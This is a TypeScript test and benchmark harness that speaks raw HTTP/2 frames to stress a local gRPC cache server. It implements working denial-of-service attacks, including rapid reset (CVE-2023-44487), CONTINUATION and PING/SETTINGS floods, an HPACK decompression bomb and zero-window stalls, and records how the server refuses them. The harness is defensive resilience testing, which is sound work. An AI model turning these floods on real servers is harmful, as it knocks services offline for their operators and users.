/**
 * The hostile clients of `npm run attack` (bench/attack.ts) and of
 * test/attack.test.ts: each attack speaks raw HTTP/2 frames on one or more
 * connections and reports how the server ended it (RST_STREAM and GOAWAY
 * codes, close) and when. The attacker bounds itself: it keeps no received
 * payload, writes with backpressure (a server that stops reading stops it),
 * and stops after `holdMs` or a byte cap.
 */
import * as net from "node:net";
import { once } from "node:events";
import { readFileSync } from "node:fs";
import { frame, grpcMessage, grpcRequestBlock, hpackIndexed, hpackLiteral, hpackLiteralName, PREFACE, settingsPayload } from "../test/helpers/h2-frames.js";

const DATA = 0, HEADERS = 1, RST_STREAM = 3, SETTINGS = 4, PING = 6, GOAWAY = 7, WINDOW_UPDATE = 8, CONTINUATION = 9; // prettier-ignore
const END_STREAM = 1, END_HEADERS = 4, ACK = 1; // prettier-ignore
const INITIAL_WINDOW_SIZE = 4;

export const ERROR_CODES = [
  "NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR",
  "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED",
]; // prettier-ignore
export const codeName = (code: number) => ERROR_CODES[code] ?? `0x${code.toString(16)}`;

export type AttackName =
  | "control"
  | "zero-window"
  | "zero-window-x3"
  | "settings-entries"
  | "after-error"
  | "rapid-reset"
  | "continuation"
  | "hpack-oversize"
  | "ping-flood"
  | "settings-flood"
  | "unfinished-bodies";

export interface AttackSpec {
  readonly attack: AttackName;
  readonly port: number;
  /** How long the attacker keeps at it (and its connections open) unless the server ends them first. */
  readonly holdMs: number;
  /** Scale: streams or Gets per connection for the attacks that open streams (default: the audit's sizes). */
  readonly streams?: number;
  /** The key of the large value (zero-window) and of small reads. */
  readonly bigKey?: string;
}

/** What one attacking connection saw, times in ms from the start of the attack. */
export interface ConnectionOutcome {
  goaway?: { code: string; atMs: number; lastStreamId: number };
  /** When the server ended the TCP connection (FIN or RST), or undefined if it stayed open. */
  closedAtMs?: number;
  closedHow?: "fin" | "reset";
  /** RST_STREAM frames the server sent, by code. */
  resets: Record<string, number>;
  /** The first RST_STREAM refusing work (REFUSED_STREAM, ENHANCE_YOUR_CALM, CANCEL, INTERNAL_ERROR, ...; not NO_ERROR nor echoes of ours). */
  firstRefusalAtMs?: number;
  /** Response HEADERS frames and DATA bytes the server sent. */
  headers: number;
  dataBytes: number;
  /** Bytes the kernel took from the attacker, and whether it ended blocked (the server stopped reading). */
  bytesSent: number;
  writeBlocked: boolean;
  /** When the attacker began waiting for connection window that the server never gave (flow control refused more data). */
  windowShutAtMs?: number;
  /** When the write that was still blocked at the end began: from then on the server took nothing (it stopped reading). */
  stalledAtMs?: number;
}

export interface AttackResult {
  readonly attack: AttackName;
  readonly connections: ConnectionOutcome[];
  readonly elapsedMs: number;
}

/** One raw HTTP/2 client connection that counts what the server sends and drops the payloads. */
export class Wire {
  readonly outcome: ConnectionOutcome = { resets: {}, headers: 0, dataBytes: 0, bytesSent: 0, writeBlocked: false };
  private partial: Buffer | undefined;
  private closed = false;
  private readonly closedPromise: Promise<void>;
  /** ACK the server's SETTINGS, as any client does. */
  autoSettingsAck = true;
  /** The server's connection window for our DATA (RFC 9113 6.9): an attacker within the rules keeps to it. */
  sendWindow = 65_535;

  private constructor(
    readonly socket: net.Socket,
    private readonly t0: number,
  ) {
    socket.setNoDelay(true);
    socket.on("error", () => {});
    socket.on("data", (chunk: Buffer) => this.onData(chunk));
    socket.on("end", () => this.markClosed("fin"));
    this.closedPromise = new Promise((res) => socket.once("close", () => (this.markClosed("reset"), res())));
  }

  /** Connects; allowHalfOpen keeps our side writable after the server's FIN (the "FIN ignored" attacker). */
  static async open(port: number, t0: number): Promise<Wire> {
    const socket = net.connect({ port, host: "127.0.0.1", allowHalfOpen: true });
    await once(socket, "connect");
    return new Wire(socket, t0);
  }

  get isClosed(): boolean {
    return this.closed;
  }

  get ended(): boolean {
    return this.closed || this.outcome.goaway !== undefined;
  }

  private now(): number {
    return Math.round(performance.now() - this.t0);
  }

  private markClosed(how: "fin" | "reset"): void {
    if (this.outcome.closedAtMs !== undefined) return;
    this.closed = true;
    this.outcome.closedAtMs = this.now();
    this.outcome.closedHow = how;
  }

  private onData(chunk: Buffer): void {
    let buf = this.partial === undefined ? chunk : Buffer.concat([this.partial, chunk]);
    this.partial = undefined;
    let pos = 0;
    while (buf.length - pos >= 9) {
      const len = buf.readUIntBE(pos, 3);
      if (len > 1 << 20) return void this.socket.destroy(); // not HTTP/2 as we asked for it; keep nothing
      if (buf.length - pos < 9 + len) break;
      const type = buf[pos + 3];
      const flags = buf[pos + 4];
      const id = buf.readUInt32BE(pos + 5) & 0x7fff_ffff;
      const payload = buf.subarray(pos + 9, pos + 9 + len);
      pos += 9 + len;
      this.onFrame(type, flags, id, payload);
    }
    // A copy: a view would pin the whole chunk.
    if (pos < buf.length) this.partial = Buffer.from(buf.subarray(pos));
    buf = Buffer.alloc(0);
  }

  private onFrame(type: number, flags: number, id: number, payload: Buffer): void {
    if (type === DATA) this.outcome.dataBytes += payload.length;
    else if (type === HEADERS) this.outcome.headers++;
    else if (type === RST_STREAM && payload.length === 4) {
      const code = payload.readUInt32BE(0);
      const name = codeName(code);
      this.outcome.resets[name] = (this.outcome.resets[name] ?? 0) + 1;
      if (code !== 0 && code !== 8 && code !== 5) this.outcome.firstRefusalAtMs ??= this.now();
    } else if (type === GOAWAY && payload.length >= 8) {
      this.outcome.goaway ??= { code: codeName(payload.readUInt32BE(4)), atMs: this.now(), lastStreamId: payload.readUInt32BE(0) & 0x7fff_ffff };
    } else if (type === WINDOW_UPDATE && id === 0 && payload.length === 4) {
      this.sendWindow += payload.readUInt32BE(0) & 0x7fff_ffff;
    } else if (type === SETTINGS && !(flags & ACK) && this.autoSettingsAck && !this.closed) {
      this.socket.write(frame(SETTINGS, ACK, 0));
    }
  }

  /**
   * Writes and waits until the kernel takes the bytes, up to `deadline`
   * (performance.now()): false when the connection is gone or the deadline
   * passed with the write still blocked (the server stopped reading).
   */
  async send(buf: Buffer, deadline: number): Promise<boolean> {
    if (this.socket.destroyed || !this.socket.writable) return false;
    const flushed = this.socket.write(buf);
    this.outcome.bytesSent += buf.length;
    if (flushed) return true;
    const left = deadline - performance.now();
    if (left <= 0) return false;
    let timer: NodeJS.Timeout | undefined;
    // While blocked, watch the server's receive queue: a server that reads slowly (busy) takes bytes now and then; one that stopped reading never does.
    let lastTaken = this.now();
    let rx = this.serverRxQueue();
    const watch = setInterval(() => {
      const now = this.serverRxQueue();
      if (now !== rx) lastTaken = this.now();
      rx = now;
    }, 50);
    const ok = await Promise.race([
      once(this.socket, "drain").then(
        () => true,
        () => false, // once() rejects on the socket's error (EPIPE, ECONNRESET): the server is gone
      ),
      this.closedPromise.then(() => false),
      new Promise<boolean>((res) => (timer = setTimeout(() => res(false), left))),
    ]);
    clearTimeout(timer);
    clearInterval(watch);
    if (!ok && !this.socket.destroyed) {
      this.outcome.writeBlocked = true;
      // Stopped reading: nothing taken for the last half second of the hold at least.
      if (this.now() - lastTaken >= 500) this.outcome.stalledAtMs = lastTaken;
    }
    return ok;
  }

  /** The server's end of this connection in /proc/net/tcp (Linux): its fields, or undefined when it is gone. */
  private serverSocket(): string[] | undefined {
    const local = this.socket.localPort;
    const remote = this.socket.remotePort;
    if (local === undefined || remote === undefined) return undefined;
    const key = `:${remote.toString(16).toUpperCase().padStart(4, "0")} 0100007F:${local.toString(16).toUpperCase().padStart(4, "0")} `;
    try {
      const line = readFileSync("/proc/net/tcp", "latin1").split("\n").find((l) => l.includes(key));
      return line?.trim().split(/\s+/);
    } catch {
      return undefined;
    }
  }

  /** Bytes waiting in the server's socket for the server to read (-1 when unknown). */
  private serverRxQueue(): number {
    const fields = this.serverSocket();
    return fields === undefined ? -1 : Number.parseInt(fields[4].split(":")[1], 16);
  }

  /** An attacker that does not read sees no FIN: the server's socket leaving ESTABLISHED (state 01) says it closed. */
  private checkServerClosed(): void {
    if (this.closed || process.platform !== "linux" || this.socket.localPort === undefined) return;
    const fields = this.serverSocket();
    if (fields === undefined || fields[3] !== "01") this.markClosed("fin");
  }

  /** Waits (up to the deadline) until the connection window has room for `bytes` of DATA, and takes them from it. */
  async reserve(bytes: number, deadline: number): Promise<boolean> {
    const since = this.now();
    while (this.sendWindow < bytes) {
      if (this.ended) return false;
      if (performance.now() >= deadline) {
        if (this.now() - since >= 500) this.outcome.windowShutAtMs = since;
        return false;
      }
      await new Promise((r) => setTimeout(r, 5));
    }
    this.sendWindow -= bytes;
    return true;
  }

  /** Waits until the server ends the connection (GOAWAY or close) or the deadline. */
  async hold(deadline: number, untilClosed = false): Promise<void> {
    for (let i = 0; performance.now() < deadline && !(untilClosed ? this.closed : this.ended); i++) {
      if (this.socket.isPaused() && i % 5 === 0) this.checkServerClosed();
      await new Promise((r) => setTimeout(r, 10));
    }
  }

  destroy(): void {
    this.socket.destroy();
  }
}

// --- the attacks -------------------------------------------------------------------

const GET_PATH = "/ripplecache.v1.CacheService/Get";
const SET_PATH = "/ripplecache.v1.CacheService/Set";

/** A protobuf string field 1 (GetRequest.key). */
function keyMessage(key: string): Buffer {
  const k = Buffer.from(key);
  return Buffer.concat([Buffer.from([0x0a, k.length]), k]);
}

/** A Get request for `key` on stream `id`: HEADERS, then its message with END_STREAM. */
export function getRequest(id: number, key: string): Buffer {
  return Buffer.concat([frame(HEADERS, END_HEADERS, id, grpcRequestBlock(GET_PATH)), frame(DATA, END_STREAM, id, grpcMessage(keyMessage(key)))]);
}

const prefaceWith = (entries: readonly (readonly [number, number])[] = []) => Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, settingsPayload(entries))]);

/** Runs one attack; every connection is destroyed before it resolves. */
export async function runAttack(spec: AttackSpec, onStart?: () => void): Promise<AttackResult> {
  const t0 = performance.now();
  const deadline = t0 + spec.holdMs;
  const conns = spec.attack === "zero-window-x3" ? 3 : 1;
  const wires: Wire[] = [];
  try {
    for (let i = 0; i < conns; i++) wires.push(await Wire.open(spec.port, t0));
    onStart?.();
    await Promise.all(wires.map((w) => ATTACKS[spec.attack](w, spec, deadline)));
  } finally {
    for (const w of wires) w.destroy();
  }
  return { attack: spec.attack, connections: wires.map((w) => w.outcome), elapsedMs: Math.round(performance.now() - t0) };
}

type Attack = (w: Wire, spec: AttackSpec, deadline: number) => Promise<void>;

/** Sends `make(i)` for i = 0.. in batches of about 64 KB, until `count`, the deadline, or the connection ends (or, with `ignoreEnd`, breaks). */
async function pump(w: Wire, deadline: number, count: number, make: (i: number) => Buffer, ignoreEnd: boolean): Promise<void> {
  let i = 0;
  while (i < count && performance.now() < deadline) {
    if (!ignoreEnd && w.ended) return;
    const parts: Buffer[] = [];
    let bytes = 0;
    while (i < count && bytes < 64 * 1024) {
      const b = make(i++);
      parts.push(b);
      bytes += b.length;
    }
    if (!(await w.send(Buffer.concat(parts), deadline))) return;
  }
}

const ATTACKS: Record<AttackName, Attack> = {
  /** No attack: one well-behaved idle connection, to show what the probe alone does to RSS and latency. */
  async control(w, _spec, deadline) {
    w.socket.write(prefaceWith());
    await w.hold(deadline, true);
  },

  /** SETTINGS_INITIAL_WINDOW_SIZE=0, then Gets of the large value; never a WINDOW_UPDATE. */
  async "zero-window"(w, spec, deadline) {
    w.socket.write(prefaceWith([[INITIAL_WINDOW_SIZE, 0]]));
    await pump(w, deadline, spec.streams ?? 1000, (i) => getRequest(1 + 2 * i, spec.bigKey ?? "big"), false);
    await w.hold(deadline, true);
  },
  async "zero-window-x3"(w, spec, deadline) {
    return ATTACKS["zero-window"](w, spec, deadline);
  },

  /** 1,000 open streams (requests whose body never comes), then SETTINGS frames of 2,730 INITIAL_WINDOW_SIZE entries each. */
  async "settings-entries"(w, spec, deadline) {
    w.socket.write(prefaceWith());
    const block = grpcRequestBlock(GET_PATH);
    await pump(w, deadline, spec.streams ?? 1000, (i) => frame(HEADERS, END_HEADERS, 1 + 2 * i, block), false);
    const entries = Array.from({ length: 2730 }, (_, i) => [INITIAL_WINDOW_SIZE, i & 1 ? 65_535 : 65_534] as const);
    const settings = frame(SETTINGS, 0, 0, settingsPayload(entries));
    // Up to ~16 MB of them; each write waits for the kernel, so the server's pace sets ours.
    await pump(w, deadline, 1000, () => settings, false);
    await w.hold(deadline, true);
  },

  /** DATA on stream 0 (a connection error), then 64 KB chunks for as long as the socket takes them, FIN ignored. */
  async "after-error"(w, _spec, deadline) {
    w.socket.write(Buffer.concat([prefaceWith(), frame(DATA, 0, 0, Buffer.alloc(16))]));
    const chunk = Buffer.alloc(64 * 1024, 0x41);
    // At most 2 GB: loopback takes ~1 GB/s from a reader that keeps reading.
    for (let i = 0; i < 32_768 && performance.now() < deadline; i++) {
      if (!(await w.send(chunk, deadline))) break;
    }
    await w.hold(deadline, true);
  },

  /** HEADERS of a Get, then RST_STREAM(CANCEL), on new streams, on and on, GOAWAY ignored (CVE-2023-44487). */
  async "rapid-reset"(w, spec, deadline) {
    w.socket.write(prefaceWith());
    const rst = Buffer.alloc(4);
    rst.writeUInt32BE(8);
    const block = grpcRequestBlock(GET_PATH);
    await pump(w, deadline, spec.streams ?? 500_000, (i) => Buffer.concat([frame(HEADERS, END_HEADERS, 1 + 2 * i, block), frame(RST_STREAM, 0, 1 + 2 * i, rst)]), true);
    await w.hold(deadline, true);
  },

  /** HEADERS without END_HEADERS, then CONTINUATION frames without end, GOAWAY ignored. */
  async "continuation"(w, _spec, deadline) {
    w.socket.write(Buffer.concat([prefaceWith(), frame(HEADERS, 0, 1, grpcRequestBlock(GET_PATH))]));
    const cont = frame(CONTINUATION, 0, 1, hpackLiteral("x-pad", "a".repeat(100)));
    await pump(w, deadline, 2_000_000, () => cont, true);
    await w.hold(deadline, true);
  },

  /**
   * One 4,000-byte field indexed in the dynamic table, then header blocks that
   * refer to it ~16,000 times each (16 KB on the wire, ~64 MB decoded): far over
   * the header list limit, block after block on one connection.
   */
  async "hpack-oversize"(w, _spec, deadline) {
    const base = Buffer.concat([hpackIndexed(3), hpackIndexed(6), hpackLiteralName(4, GET_PATH), hpackLiteralName(1, "127.0.0.1")]);
    const first = Buffer.concat([base, hpackLiteral("x-big", "b".repeat(4000), true)]);
    w.socket.write(Buffer.concat([prefaceWith(), frame(HEADERS, END_HEADERS | END_STREAM, 1, first)]));
    const refs = Buffer.alloc(16_384 - base.length, hpackIndexed(62)[0]);
    const block = Buffer.concat([base, refs]);
    await pump(w, deadline, 100_000, (i) => frame(HEADERS, END_HEADERS | END_STREAM, 3 + 2 * i, block), false);
    await w.hold(deadline, true);
  },

  /** PINGs, never reading the ACKs. */
  async "ping-flood"(w, _spec, deadline) {
    w.socket.pause();
    w.socket.write(prefaceWith());
    const ping = frame(PING, 0, 0, Buffer.alloc(8));
    await pump(w, deadline, 2_000_000, () => ping, false);
    await w.hold(deadline, true);
  },

  /** Empty SETTINGS frames (each owed an ACK), never reading the ACKs. */
  async "settings-flood"(w, _spec, deadline) {
    w.socket.pause();
    w.socket.write(prefaceWith());
    const settings = frame(SETTINGS, 0, 0);
    await pump(w, deadline, 2_000_000, () => settings, false);
    await w.hold(deadline, true);
  },

  /** 1,000 Set requests whose message declares 1 MiB; 60 KB of each is sent (within the stream window), the rest never. */
  async "unfinished-bodies"(w, spec, deadline) {
    w.socket.write(prefaceWith());
    const block = grpcRequestBlock(SET_PATH);
    const prefix = Buffer.from([0, 0, 0x10, 0, 0x10]); // uncompressed, 1 MiB + 16 bytes
    const body = Buffer.alloc(60 * 1024, 0x42);
    for (let i = 0; i < (spec.streams ?? 1000); i++) {
      const id = 1 + 2 * i;
      if (!(await w.reserve(prefix.length + body.length, deadline))) break;
      if (!(await w.send(Buffer.concat([frame(HEADERS, END_HEADERS, id, block), frame(DATA, 0, id, prefix), ...chunks(id, body)]), deadline))) break;
    }
    await w.hold(deadline, true);
  },
};

/** DATA frames of at most 16,384 bytes carrying `body`. */
function chunks(id: number, body: Buffer): Buffer[] {
  const out: Buffer[] = [];
  for (let p = 0; p < body.length; p += 16_384) out.push(frame(DATA, 0, id, body.subarray(p, Math.min(body.length, p + 16_384))));
  return out;
}

export const ATTACK_NAMES = Object.keys(ATTACKS) as AttackName[];
